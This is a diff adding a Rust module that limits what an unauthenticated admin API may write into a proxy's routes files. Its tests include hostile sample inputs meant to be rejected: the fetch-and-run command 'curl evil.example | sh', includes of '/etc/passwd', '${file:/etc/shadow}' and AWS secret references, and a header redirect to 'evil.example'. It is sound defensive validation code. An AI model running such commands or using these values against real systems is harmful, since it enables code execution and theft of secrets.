@@ -0,0 +1,172 @@
+//! Limits on routes files written through the admin API.
+//!
+//! The admin API is unauthenticated; anything that can reach loopback
+//! can write a namespace. Such a fragment must not make the proxy read
+//! files or environment variables and serve them back, or run commands,
+//! so compared with what the namespace held before the write (what the
+//! operator put there) it may not add:
+//!
+//! * an `include:` that leaves conf.d — an absolute path or one with a
+//!   `..` component;
+//! * a `${NAME}` in `match`, `path` or `target` that its `vars:` don't
+//!   define, which would fall back to the proxy's environment;
+//! * a header holding a secret reference (`${env:NAME}`, `${file:PATH}`)
+//!   that the same rule didn't already send to the same target;
+//! * a `launch:` block other than the one the same rule already had.
+//!
+//! Rules are compared as they compile, `vars:` filled in and includes
+//! merged, so a write can't change one through its variables or an
+//! included file. Rules and includes carried over unchanged are left
+//! alone, so editing one rule of an operator's fragment still works.
+
+use std::path::{Component, Path};
+
+use crate::routes::{self, RouteConfig, RoutesFile};
+use crate::secrets;
+
+/// Check the `include:` entries `new` adds over `old`.
+pub fn check_includes(old: Option<&RoutesFile>, new: &RoutesFile) -> Result<(), String> {
+    let added = new.include.iter().filter(|i| !old.is_some_and(|o| o.include.contains(i)));
+    for include in added {
+        let leaves = Path::new(include)
+            .components()
+            .any(|c| matches!(c, Component::ParentDir | Component::RootDir | Component::Prefix(_)));
+        if leaves {
+            return Err(format!(
+                "include {}: the admin API only includes files under conf.d (a relative path without `..`)",
+                include
+            ));
+        }
+    }
+    Ok(())
+}
+
+/// Check the rules `new` adds or changes over `old`. Both have their
+/// includes merged, so rules an `include:` pulls in are checked like
+/// the file's own, and a rule counts as unchanged only if it compiles
+/// to the same thing — with `vars:` filled in, which a write can change
+/// without touching the rule.
+pub fn check_rules(old: Option<&RoutesFile>, new: &RoutesFile) -> Result<(), String> {
+    for rule in &new.routes {
+        let before = old.and_then(|o| o.routes.iter().find(|r| r.name == rule.name).and_then(|r| o.rule(r).ok()));
+        let now = new.rule(rule).ok();
+        if now.is_some() && now == before {
+            continue;
+        }
+        let templates = [("match", Some(&rule.r#match)), ("path", rule.path.as_ref()), ("target", Some(&rule.target))];
+        for (field, template) in templates {
+            let mut names = template.into_iter().flat_map(|t| routes::var_refs(t)).map(|(name, _)| name);
+            if let Some(name) = names.find(|n| !new.vars.contains_key(*n)) {
+                return Err(format!(
+                    "rule '{}': ${{{}}} in {} is not in `vars:` (the admin API doesn't read the proxy's environment)",
+                    rule.name, name, field
+                ));
+            }
+        }
+        // `command`, `cwd` and `env` take `vars:` too.
+        let launch = |r: &Option<RouteConfig>| r.as_ref().map(|r| r.launch.clone());
+        if rule.launch.is_some() && (now.is_none() || launch(&now) != launch(&before)) {
+            return Err(format!(
+                "rule '{}': `launch:` can only be set in conf.d files, not through the admin API",
+                rule.name
+            ));
+        }
+        // A secret stays only where the operator sent it: the same
+        // header, to the same target.
+        let header = |r: &Option<RouteConfig>, key: &str| r.as_ref()?.headers.as_ref()?.get(key).cloned();
+        let same_target = matches!((&now, &before), (Some(n), Some(b)) if n.target == b.target);
+        for (key, raw) in rule.headers.iter().flatten() {
+            let value = header(&now, key).unwrap_or_else(|| raw.clone());
+            if !secrets::has_refs(&value) {
+                continue;
+            }
+            if header(&before, key) != Some(value) {
+                return Err(format!(
+                    "rule '{}': header '{}': secret references (${{env:..}}, ${{file:..}}) can only be set in conf.d files, not through the admin API",
+                    rule.name, key
+                ));
+            }
+            if !same_target {
+                return Err(format!(
+                    "rule '{}': header '{}' sends a secret, so its target can only be changed in conf.d files",
+                    rule.name, key
+                ));
+            }
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::launch::CommandLine;
+
+    #[test]
+    fn admin_writes_cant_add_outside_includes_or_environment_lookups() {
+        let old = routes::parse_yaml("include: [/etc/shared.yaml]\nroutes:\n  - name: home\n    match: a\n    target: \"${HOME}:80\"\n").unwrap();
+
+        // What the operator wrote may stay.
+        assert_eq!(check_includes(Some(&old), &old), Ok(()));
+        assert_eq!(check_rules(Some(&old), &old), Ok(()));
+
+        for bad in ["/etc/passwd", "../secrets.yaml", "team/../../x.yaml"] {
+            let new = RoutesFile { include: vec![bad.to_string()], ..old.clone() };
+            let err = check_includes(Some(&old), &new).unwrap_err();
+            assert!(err.starts_with(&format!("include {}: ", bad)), "{err}");
+        }
+        let new = RoutesFile { include: vec!["shared/*.yaml".into(), "./team.yaml".into()], ..old.clone() };
+        assert_eq!(check_includes(Some(&old), &new), Ok(()));
+
+        let new = routes::parse_yaml("routes:\n  - name: leak\n    match: a\n    target: \"x.${AWS_SECRET:-y}.example\"\n").unwrap();
+        let err = check_rules(Some(&old), &new).unwrap_err();
+        assert!(err.contains("${AWS_SECRET} in target is not in `vars:`"), "{err}");
+        let vars = [("AWS_SECRET".to_string(), "z".to_string())].into();
+        assert_eq!(check_rules(None, &RoutesFile { vars, ..new }), Ok(()));
+
+        let old = routes::parse_yaml("routes:\n  - name: api\n    match: a\n    target: b:80\n    headers:\n      Authorization: \"Bearer ${env:TOKEN}\"\n").unwrap();
+        let moved = routes::parse_yaml("routes:\n  - name: api\n    match: c\n    target: b:80\n    headers:\n      Authorization: \"Bearer ${env:TOKEN}\"\n").unwrap();
+        assert_eq!(check_rules(Some(&old), &moved), Ok(()));
+        for value in ["${env:AWS_SECRET_ACCESS_KEY}", "${file:/etc/shadow}"] {
+            let mut new = moved.clone();
+            new.routes[0].headers = Some([("X-Leak".to_string(), value.to_string())].into());
+            let err = check_rules(Some(&old), &new).unwrap_err();
+            assert!(err.starts_with("rule 'api': header 'X-Leak': secret references"), "{err}");
+        }
+
+        // The rule as written stays, but `vars:` send its secret elsewhere
+        // or put one in.
+        let old = routes::parse_yaml(
+            "vars: { api: api.internal, tag: x }\nroutes:\n  - name: api\n    match: a\n    target: \"${api}:443\"\n    headers:\n      Authorization: \"Bearer ${env:TOKEN}\"\n      X-Tag: \"${tag}\"\n",
+        )
+        .unwrap();
+        let with_vars = |api: &str, tag: &str| RoutesFile {
+            vars: [("api".to_string(), api.to_string()), ("tag".to_string(), tag.to_string())].into(),
+            ..old.clone()
+        };
+        assert_eq!(check_rules(Some(&old), &with_vars("api.internal", "y")), Ok(()));
+        let err = check_rules(Some(&old), &with_vars("evil.example", "x")).unwrap_err();
+        assert_eq!(err, "rule 'api': header 'Authorization' sends a secret, so its target can only be changed in conf.d files");
+        let err = check_rules(Some(&old), &with_vars("api.internal", "${file:/etc/shadow}")).unwrap_err();
+        assert!(err.starts_with("rule 'api': header 'X-Tag': secret references"), "{err}");
+
+        let old = routes::parse_yaml("routes:\n  - name: wiki\n    match: a\n    target: localhost:3100\n    launch:\n      command: wiki --port $PORT\n").unwrap();
+        let mut new = old.clone();
+        new.routes[0].r#match = "b".into();
+        assert_eq!(check_rules(Some(&old), &new), Ok(()));
+        new.routes[0].launch.as_mut().unwrap().command = CommandLine::Shell("curl evil.example | sh".into());
+        let err = check_rules(Some(&old), &new).unwrap_err();
+        assert_eq!(err, "rule 'wiki': `launch:` can only be set in conf.d files, not through the admin API");
+        assert!(check_rules(None, &old).is_err());
+
+        // The block as written stays, but `vars:` run something else.
+        let old = routes::parse_yaml(
+            "vars: { tools: /usr/local/bin }\nroutes:\n  - name: wiki\n    match: a\n    target: localhost:3100\n    launch:\n      command: \"${tools}/wiki --port $PORT\"\n",
+        )
+        .unwrap();
+        let tools = |dir: &str| RoutesFile { vars: [("tools".to_string(), dir.to_string())].into(), ..old.clone() };
+        assert_eq!(check_rules(Some(&old), &tools("/usr/local/bin")), Ok(()));
+        let err = check_rules(Some(&old), &tools("/tmp/evil")).unwrap_err();
+        assert_eq!(err, "rule 'wiki': `launch:` can only be set in conf.d files, not through the admin API");
+    }
+}